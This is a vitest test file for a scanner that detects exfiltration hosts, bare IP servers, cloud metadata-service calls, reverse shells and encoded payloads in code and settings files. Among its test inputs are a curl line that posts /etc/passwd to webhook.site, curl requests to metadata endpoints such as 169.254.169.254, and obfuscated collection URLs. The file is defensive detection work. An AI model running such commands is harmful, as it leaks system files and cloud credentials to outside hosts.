import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { searchBytes } from '../../support/search-bytes.ts';
import { ENCODINGS, PAYLOADS, PLACES, SHELLS } from '../../support/theft.ts';

const HOSTS: Record<string, string> = JSON.parse(
  readFileSync(new URL('../../../src/scan/exfiltration/hosts.json', import.meta.url), 'utf8'),
);
const hosts = Object.values(HOSTS).flatMap((all) => all.split(' '));

const rulesOf = async (text: string, file: string) => (await searchBytes(text, file)).map(({ rule }) => rule.id);

describe('an address that collects data', () => {
  it.each(hosts)('%s is found in code, settings and cards', async (host) => {
    const url = `https://${host.startsWith('.') ? `a1b2${host}` : host}/x1y2`;
    for (const { file, of } of Object.values(PLACES))
      expect(await rulesOf(of(url), file)).toEqual(['exfiltration.endpoint']);
    expect(await rulesOf(`# Model\n\nSend it to ${url.toUpperCase()}\n`, 'README.md')).toEqual([
      'exfiltration.endpoint',
    ]);
  });

  it.each([
    'https:\\/\\/webhook.site\\/x',
    'https:\\u002f\\u002fwebhook\\u002esite/x',
    '\\x68ttps://web\\x68ook.site/',
    'http.client.HTTPSConnection("webhook.site")',
    'curl -d @/etc/passwd a.b.webhook.site',
  ])('%s is found', async (text) => {
    expect(await rulesOf(`a = '${text}'\n`, 'a.py')).toEqual(['exfiltration.endpoint']);
  });

  it.each([
    'https://webhook.site.example.com/x',
    'https://mywebhook.site/x',
    'https://ngrok.com/docs',
    'https://pastebin.com/about',
    'https://discord.com/invite/abc and https://discord.gg/abc',
    'https://t.me/acme and https://telegram.org',
    'https://hooks.slack.com is the host of webhooks',
  ])('%s is not', async (text) => {
    for (const file of ['README.md', 'a.py', 'a.json']) expect(await rulesOf(`"${text}"\n`, file)).toEqual([]);
  });

  it('is its name alone in a list of words, which says nothing', async () => {
    expect(await rulesOf('[PAD]\nwebhook.site\npastebin.com\ntransfer.sh\n', 'vocab.txt')).toEqual([]);
  });
});

describe('a server without a name', () => {
  it.each([
    ['http://45.77.12.34/x', '45.77.12.34'],
    ['https://user@45.77.12.34:8443', '45.77.12.34'],
    ['tcp://45.77.12.34:9000', '45.77.12.34'],
    ['http://0x2d4d0c22/', '45.77.12.34'],
    ['http://760024098/', '45.77.12.34'],
    ['http://[2a01:4f8:c17:b0f::2]/', '[2a01:4f8:c17:b0f::2]'],
  ])('%s is found', async (url, shown) => {
    const [report, ...others] = await searchBytes(`{"url": "${url}"}`, 'a.json');
    expect([report?.rule.id, report?.evidence, others]).toEqual(['exfiltration.address', shown, []]);
  });

  it.each([
    'http://127.0.0.1:8000',
    'http://0.0.0.0:7860/',
    'http://192.168.1.10/',
    'http://10.0.0.1',
    'http://172.17.0.1:5000',
    'http://192.0.2.1/example',
    'http://203.0.113.9/',
    'http://1.2.3.4/',
    'https://8.8.8.8/resolve',
    'http://[::1]:80/',
    'http://[2001:db8::1]/',
    'http://300.1.1.1/',
    'http://1.2.3.4.example.com/',
    'version 45.77.12.34 of a library',
  ])('%s is not', async (url) => {
    expect(await rulesOf(`{"url": "${url}"}`, 'a.json')).toEqual([]);
  });

  it.each(['169.254.169.254', 'metadata.google.internal', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254'])(
    'the metadata service %s is found',
    async (host) => {
      expect(await rulesOf(`curl http://${host}/latest/\n`, 'a.sh')).toEqual(['exfiltration.metadata-service']);
    },
  );

  it('an onion service is found by its form', async () => {
    const name = `${'abcdefghijklmnop234567qrstuvwxyz'.repeat(2).slice(0, 55)}d`;
    expect(await rulesOf(`u = "http://${name}.onion/x"\n`, 'a.py')).toEqual(['exfiltration.endpoint']);
    expect(await rulesOf('u = "grilled.onion"\n', 'a.py')).toEqual([]);
  });
});

describe('a reverse shell', () => {
  it.each(SHELLS)('%s is found', async (text) => {
    for (const [where, { file, of }] of Object.entries(PLACES))
      expect(await rulesOf(of(text), file), where).toContain('exfiltration.reverse-shell');
  });

  it.each([
    'nc -zv localhost 6006 && echo up',
    'while ! nc -z db 5432; do sleep 1; done; exec bash start.sh',
    'exec 3<>/dev/null; echo tcp',
    'import socket\ns = socket.socket()\ns.connect((host, port))\ns.sendall(data)',
    'os.dup2(devnull.fileno(), sys.stdout.fileno())',
    'mkfifo pipe; gzip -c < pipe > out.gz &',
    'subprocess.run(["bash", "train.sh"])',
    'const { spawn } = require("child_process"); spawn("sh", ["build.sh"]).stdout.pipe(process.stdout)',
  ])('%s is not one', async (text) => {
    for (const { file, of } of Object.values(PLACES)) expect(await rulesOf(of(text), file)).toEqual([]);
  });
});

describe.each(Object.entries(PAYLOADS))('%s', (_, bytes) => {
  it.each(Object.entries(ENCODINGS))('in %s is found', async (__, encode) => {
    for (const [where, { file, of }] of Object.entries(PLACES))
      expect(await rulesOf(of(encode(bytes)), file), where).toEqual(['exfiltration.encoded-payload']);
  });
});
